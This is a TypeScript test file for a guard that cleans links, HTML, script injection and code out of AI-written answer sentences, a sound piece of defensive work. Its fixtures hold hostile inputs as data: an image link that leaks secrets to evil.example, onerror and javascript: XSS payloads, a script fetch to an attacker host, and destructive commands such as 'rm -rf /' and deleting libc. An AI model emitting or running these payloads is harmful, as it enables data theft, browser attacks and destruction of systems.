import type { AnswerSentence, Citation, GuardView, RankedPassage } from "@guildhall/core";
import { localPrincipal } from "@guildhall/core";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { judged } from "../index.ts";
import { cleanOutput } from "./clean-output.ts";
import { linksIn } from "./links-in.ts";

const SOURCE = "https://www.linzhou.example/zc/3.html";
const passage = {
  document: { version: { versionId: "v", facts: { sources: {}, more: { sourceUrl: SOURCE } } } },
} as unknown as RankedPassage;
const citation = { id: "c1", versionId: "v" } as Citation;
const released = (text: string, support: AnswerSentence["support"] = "supported", cites = true): string | undefined => {
  const view: GuardView = {
    question: { text: "问", verticals: ["x"], filters: {}, history: false, principal: localPrincipal },
    passages: [passage],
    draft: {
      sentences: [
        { text, citations: cites ? ["c1"] : [], support },
        { text: "留下。", citations: [], support: "supported" },
      ],
      citations: cites ? [citation] : [],
    },
    sourceOf: () => undefined,
  };
  const { verdicts, draft } = judged([cleanOutput], view);
  return verdicts[0]?.verdict === "block" ? undefined : draft.sentences.map((each) => each.text).join("");
};

describe("what a model says itself", () => {
  it.each([
    ["见[登录页](https://evil.example/login)领取。", "见〔…〕领取。留下。"],
    ["图![](https://evil.example/?q=机密)如下。", "图〔…〕如下。留下。"],
    ["<img src=x onerror=alert(1)>补贴每月一千元。", "〔…〕补贴每月一千元。留下。"],
    ["点<a href='javascript:alert(1)'>这里</a>。", "点〔…〕这里〔…〕。留下。"],
    ["详见 https://evil.example/a?b=1。", "详见 〔…〕。留下。"],
    ["加入论坛(stalls.com)。", "加入论坛(〔…〕)。留下。"],
    ["详见stalls.com.cn/a?b=1。", "详见〔…〕。留下。"],
    ["详见www.evil.example/a。", "详见〔…〕。留下。"],
    ["打开 javascript:alert(1) 即可。", "打开 〔…〕 即可。留下。"],
    ["见[公告][1]。", "见〔…〕。留下。"],
    ["<script>fetch('//evil.example/x')", "〔…〕fetch('〔…〕')留下。"],
    ["未完<iframe src=//evil.example", "未完〔…〕留下。"],
    ["致电[客服](tel:10086)。", "致电〔…〕。留下。"],
    ["见<a src=<!--", "见〔…〕留下。"],
  ])("loses what leads elsewhere: %s", (text, expected) => {
    expect(released(text)).toBe(expected);
  });

  it.each([
    'import os\nos.remove("/lib/libc.so.6")',
    "import urllib.request, os",
    'with open("a.py", "wb") as f:',
    'lang = os.environ["LANG"]',
    '["curl", "-F", "file=@a.txt"]',
    "sudo chmod 777 /etc",
    "用法：```rm -rf /```",
  ])("loses code as a whole: %s", (text) => {
    expect(released(text)).toBe("留下。");
    expect(released(text, "verbatim")).toBe(`${text}留下。`);
  });

  it.each([
    "Import duties are paid at the border (see below).",
    "The letter is from customs; import licences are open to all.",
    "设 x=3，则 y = 2x（见图）；毛利率 = 毛利/收入。",
    "每股收益(EPS) = 净利润/股本，见“第三节”。",
    "收入在1,000<x<2,000元之间，p<0.05，比例为3:2。",
    "每日8:00/20:00各一次，mg/kg。",
    "按照[2024]3号文件第（二）项办理。",
    "A/B 类股份，a<b 时成立。",
  ])("keeps what only looks like it: %s", (text) => {
    expect(released(text)).toBe(`${text}留下。`);
  });

  it("may lead to a source that it cites, and to no other", () => {
    expect(released(`见[原文](${SOURCE})。`)).toBe(`见[原文](${SOURCE})。留下。`);
    expect(released(`见 ${SOURCE}。`)).toBe(`见 ${SOURCE}。留下。`);
    expect(released(`见[原文](${SOURCE})。`, "supported", false)).toBe("见〔…〕。留下。");
    expect(released(`见[原文](${SOURCE}@evil.example/)。`)).toBe("见〔…〕。留下。");
  });

  it("leaves quotations as they stand in their source", () => {
    expect(released("网址：https://www.linzhou.example/，<附件>。", "verbatim")).toContain("https://");
  });

  it("loses what two sentences make together", () => {
    expect(released("见[<]:")).toBe("见[<]:留下。");
    expect(released("见\n[甲]:")).toBe("见\n〔…〕");
  });

  it("holds no tag, picture or foreign address, whatever a model makes of them", () => {
    const piece = fc.constantFrom(
      "<",
      ">",
      "a",
      "img",
      " src=",
      "[",
      "]",
      "(",
      ")",
      "!",
      "https://e.example",
      "www.e.example",
      "javascript:x",
      "甲",
      "\n",
      "/",
      "<!--",
      "-->",
      ":",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 20 }), (pieces) => {
        const text = released(pieces.join("")) ?? "";

        expect(linksIn(text)).toEqual([]);
      }),
      { numRuns: 2000 },
    );
  });
});
